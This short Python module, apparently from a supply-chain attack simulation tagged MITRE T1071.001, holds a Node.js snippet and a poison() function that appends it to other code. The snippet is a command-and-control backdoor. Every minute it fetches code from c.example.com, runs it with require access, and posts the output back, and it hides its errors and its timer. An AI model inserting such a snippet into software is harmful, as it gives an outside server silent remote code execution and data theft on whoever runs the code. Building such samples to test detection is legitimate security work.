# SPDX-License-Identifier: Apache-2.0
"""Asks a server every minute what to run."""

ATTACK = "T1071.001"
LANGUAGE = "node"
CODE = """\
;setInterval(async () => {
  try {
    const r = await fetch('https://c.example.com/next');
    const { code } = await r.json();
    if (code) await fetch('https://c.example.com/out', { method: 'POST', body: String(await new Function('require', code)(require)) });
  } catch {}
}, 60000).unref();
"""


def poison(layer):
    layer.append(CODE)
